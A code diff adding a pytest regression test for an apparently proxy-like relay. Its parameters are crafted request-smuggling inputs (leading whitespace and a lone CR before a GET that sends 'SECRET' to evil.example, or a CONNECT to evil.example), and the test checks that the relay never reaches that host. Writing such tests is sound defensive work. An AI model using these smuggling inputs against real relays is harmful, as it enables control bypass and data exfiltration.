@@ -423,3 +423,16 @@ def test_node_never_reads_another_host_from_a_target_that_starts_with_a_slash(
         out, _ = node.communicate(timeout=10)
     assert "evil.example" not in out, out
     assert run.refused("sni-mismatch"), run.report
+
+
+@pytest.mark.parametrize("flights", [
+    [b" \rGET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+    [b" ", b"\r", b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+    [b"\x1c", b"\r", b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"],
+    [b" \rGET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n", CONNECT_EVIL],
+])
+def test_white_space_and_a_lone_cr_never_make_the_rest_unchecked(flights: list[bytes]) -> None:
+    """A fifth red-team round: a first line of white space ending in a lone CR was "another
+    protocol" to the relay and a request to Python's reader (a CR is a blank to it)."""
+    heard, _ = _through_reader(flights)
+    assert not any("evil.example" in host for host in heard), heard
